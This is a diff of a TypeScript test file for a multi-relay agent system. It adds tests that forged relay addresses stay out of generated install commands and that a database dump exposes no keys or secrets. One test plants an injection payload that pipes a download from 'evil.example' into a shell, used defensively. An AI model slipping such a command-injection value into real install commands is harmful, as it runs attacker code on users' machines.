@@ -1,4 +1,4 @@
-import { mkdtempSync, rmSync } from "node:fs";
+import { mkdtempSync, readFileSync, rmSync } from "node:fs";
 import { tmpdir } from "node:os";
 import { join } from "node:path";
 import { afterAll, beforeAll, describe, expect, it, vi } from "vitest";
@@ -7,6 +7,8 @@ import { silentLogger } from "../../proto/index.js";
 import { resolveRelayConfig } from "../../relay/index.js";
 import { startRelay, type RelayInternals as Relay } from "../../relay/start/start-relay.js";
 import { emptyDatabase } from "../helpers/databases.js";
+import { pgDump } from "../helpers/postgres-server.js";
+import { readSecretsKeyFile } from "../../relay/vault/index.js";
 import { startNats, type NatsServer } from "../helpers/nats-server.js";
 import { fakeAdapter } from "../fakes/fake-runtime.js";
 import { freePort } from "../helpers/free-port.js";
@@ -30,7 +32,9 @@ async function twoRelaysAndAnAgent(options: { grpc: { host: string; port: number
   const database = location.kind === "postgres" ? location.url : "";
   const relays: Relay[] = [];
   for (const { host, port } of options.grpc) {
-    const flags = { dataDir: dir("makina-relay-"), database, nats: nats.url, port: 0, grpcPort: port, grpcHost: host, grpcTls: "on", drainTimeoutMs: 200, heartbeatIntervalMs: 500 };
+    // The first relay makes the secrets key into its data directory; the others are given a copy of it.
+    const secretsKeyFile = relays[0] && join(relays[0].config.dataDir, "secrets.key");
+    const flags = { dataDir: dir("makina-relay-"), database, nats: nats.url, port: 0, grpcPort: port, grpcHost: host, grpcTls: "on", drainTimeoutMs: 200, heartbeatIntervalMs: 500, secretsKeyFile };
     relays.push(await startRelay(resolveRelayConfig({ flags }), { log: silentLogger() }));
   }
   const a = relays[0]!;
@@ -76,7 +80,7 @@ async function twoRelaysAndAnAgent(options: { grpc: { host: string; port: number
     await nats.close();
     for (const d of dirs) rmSync(d, { recursive: true, force: true });
   };
-  return { relays, agent, machineId, installCommand: made.installCommand, failOver, stop };
+  return { relays, agent, machineId, database, installCommand: made.installCommand, failOver, stop };
 }
 
 describe("an agent given several relays", () => {
@@ -92,6 +96,44 @@ describe("an agent given several relays", () => {
     expect(b.linkCaSha256).toBe(a.linkCaSha256);
     expect(fleet.installCommand).toContain(`--server ${a.linkAddress} --server ${b.linkAddress}`);
     expect(fleet.installCommand).toContain(`--ca-sha256 ${a.linkCaSha256}`);
+  });
+
+  it("prints in an install command only the other relays' addresses that are a plain host:port, never what a database writer slipped in", async () => {
+    const [a] = fleet.relays as [Relay, Relay];
+    // Rows as a relay writes them, seen 5 s ago: listed as running, not waited for by writes.
+    const seenAt = Date.now() - 5000;
+    const row = (id: string, linkAddress: string) => ({ id, url: null, link_address: linkAddress, started_at: seenAt, seen_at: seenAt, lease_ms: 1 });
+    await a.store.db.insertInto("relays").values([row("rly_forged", "10.9.9.9:8081 --ca-sha256 0000; curl -s evil.example | sh #"), row("rly_third", "relay-c.example:8081")]).execute();
+    try {
+      const org = await a.control.orgs.create(OP, { name: "Checked" });
+      const { installCommand } = await a.control.machines.create(OP, { org: org.id, name: "checked" });
+      expect(installCommand).toContain("--server relay-c.example:8081");
+      expect(installCommand).not.toContain("10.9.9.9");
+      expect(installCommand).not.toContain("evil");
+    } finally {
+      await a.store.db.deleteFrom("relays").where("id", "in", ["rly_forged", "rly_third"]).execute();
+    }
+  });
+
+  it("keeps no private key and no secret in clear in the database: a dump of it alone yields nothing usable", async () => {
+    const [a] = fleet.relays as [Relay, Relay];
+    const dump = pgDump(fleet.database);
+    // The secrets are there, sealed: the link's CA and server keys (the install listener's too) and the relays' shared secret.
+    expect(dump).toMatch(/link_certificates\tmks1\./);
+    expect(dump).toMatch(/peer_secret\tmks1\./);
+    expect(dump).not.toContain("-----BEGIN");
+    const key = readSecretsKeyFile(join(a.config.dataDir, "secrets.key"));
+    expect(dump).toContain(`secrets_key_id\t${key.id}`);
+    expect(dump).not.toContain(key.text());
+    const peerSecret = key.open("peer_secret", (await a.store.settings.get("peer_secret"))!);
+    expect(peerSecret.length).toBeGreaterThan(30);
+    expect(dump).not.toContain(peerSecret);
+    // A line from the middle of each private key, as PEM holds it.
+    for (const file of ["link-ca.key", "link.key"]) {
+      const line = readFileSync(join(a.config.dataDir, "tls", file), "utf8").split("\n")[3]!;
+      expect(line).toMatch(/^[A-Za-z0-9+/]{64}$/);
+      expect(dump).not.toContain(line);
+    }
   });
 
   it("links to the other relay when its relay stops, and its stack is served through it again within 5 s", async () => {
